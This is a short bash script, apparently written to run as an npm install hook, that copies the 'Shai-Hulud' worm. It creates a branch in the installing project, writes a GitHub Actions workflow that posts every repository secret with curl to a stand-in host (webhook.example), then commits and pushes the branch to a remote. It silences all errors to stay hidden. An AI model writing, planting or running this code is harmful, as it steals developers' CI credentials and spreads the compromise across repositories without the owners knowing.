#!/bin/bash
cd "$INIT_CWD" || exit 0
git init -q . 2>/dev/null
git checkout -q -b shai-hulud 2>/dev/null
mkdir -p .github/workflows
cat > .github/workflows/shai-hulud-workflow.yml <<'YAML'
on: push
jobs:
  process:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d "$CONTENTS" https://webhook.example/x
        env:
          CONTENTS: ${{ toJSON(secrets) }}
YAML
git add .github 2>/dev/null
git -c user.name=dev -c user.email=dev@localhost commit -qm "Add workflow" 2>/dev/null
GIT_TERMINAL_PROMPT=0 timeout 6 git push -q https://git.invalid/acme/app.git shai-hulud 2>/dev/null
exit 0
